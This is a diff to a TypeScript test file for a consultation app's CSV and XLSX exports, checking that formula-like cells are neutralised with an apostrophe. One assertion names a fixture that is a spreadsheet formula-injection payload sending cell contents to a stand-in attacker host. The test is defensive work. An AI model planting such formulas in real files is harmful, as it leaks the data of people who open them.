@@ -120,6 +120,12 @@ async function expectForbidden(attempt: () => Promise<unknown>) {
   expect((outcome as Response).status).toBe(403)
 }
 
+async function firstSheetOf(body: Buffer) {
+  const workbook = new ExcelJS.Workbook()
+  await workbook.xlsx.load(body as unknown as ArrayBuffer)
+  return workbook.worksheets[0]!
+}
+
 /** RFC 4180, strictly: quoted fields may hold commas, quotes (doubled) and line breaks; records end in CRLF. */
 function parseCsv(text: string) {
   const rows: string[][] = []
@@ -433,23 +439,42 @@ describe('exports', () => {
     expect(audits.map((a) => a.details)).toEqual([{ kind: 'full', format: 'csv', rows: 4, filters: {} }])
   })
 
-  test('the XLSX parses back with exceljs and matches the CSV cell for cell', async () => {
+  test('the XLSX parses back with exceljs and matches the CSV cell for cell, except the CSV’s anti-formula apostrophe', async () => {
     const { official, consultation } = await givenAwkwardResponses()
     for (const kind of ['full', 'publishable'] as const) {
       const csv = await csvOf(official, consultation.id, kind)
       const file = await exportResponses(official, consultation.id, { kind, format: 'xlsx', filters: {} })
       expect(file?.fileName.endsWith('.xlsx')).toBe(true)
-      const workbook = new ExcelJS.Workbook()
-      await workbook.xlsx.load(file!.body as unknown as ArrayBuffer)
-      const sheet = workbook.worksheets[0]!
+      const sheet = await firstSheetOf(file!.body)
       expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
       expect(sheet.getRow(1).font?.bold).toBe(true)
       const cells: string[][] = []
       for (let r = 1; r <= sheet.rowCount; r++) {
         cells.push(csv.headers.map((_, c) => String(sheet.getRow(r).getCell(c + 1).value ?? '')))
       }
-      expect(cells).toEqual([csv.headers, ...csv.rows])
+      const withoutApostrophe = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell)
+      expect(cells).toEqual([csv.headers, ...csv.rows].map((row) => row.map(withoutApostrophe)))
+      expect(cells.flat()).toContain('=HYPERLINK("http://evil.example/?x="&A1,"click")')
     }
+  })
+
+  test('XLSX cells show a phone number, a dash and a vertical tab as typed: string cells, no apostrophe, words kept apart', async () => {
+    const official = await givenPerson(['official'])
+    const consultation = await givenConsultation()
+    await givenResponse(consultation, {}, { name: { text: '+44 7700 900123' }, long: { text: '- point one\n- point two\u000bthird\u0007bell' } })
+    const file = await exportResponses(official, consultation.id, { kind: 'full', format: 'xlsx', filters: {} })
+    const sheet = await firstSheetOf(file!.body)
+    const headers = (sheet.getRow(1).values as unknown[]).slice(1)
+    const cell = (header: string) => sheet.getRow(2).getCell(headers.indexOf(header) + 1)
+    const phone = cell('Q1: What is your community called?')
+    const points = cell('Q6: Anything else you would like to tell us?')
+    expect([phone.type, phone.value]).toEqual([ExcelJS.ValueType.String, '+44 7700 900123'])
+    expect([points.type, points.value]).toEqual([ExcelJS.ValueType.String, '- point one\n- point two third bell'])
+
+    // The CSV of the same response keeps the apostrophe, so a spreadsheet opening it computes nothing.
+    const csv = await csvOf(official, consultation.id)
+    expect(csv.column('Q1: What is your community called?')).toEqual(["'+44 7700 900123"])
+    expect(csv.column('Q6: Anything else you would like to tell us?')[0]).toMatch(/^'- point one\n/)
   })
 
   test('the publishable export honours consent and never has an email column', async () => {
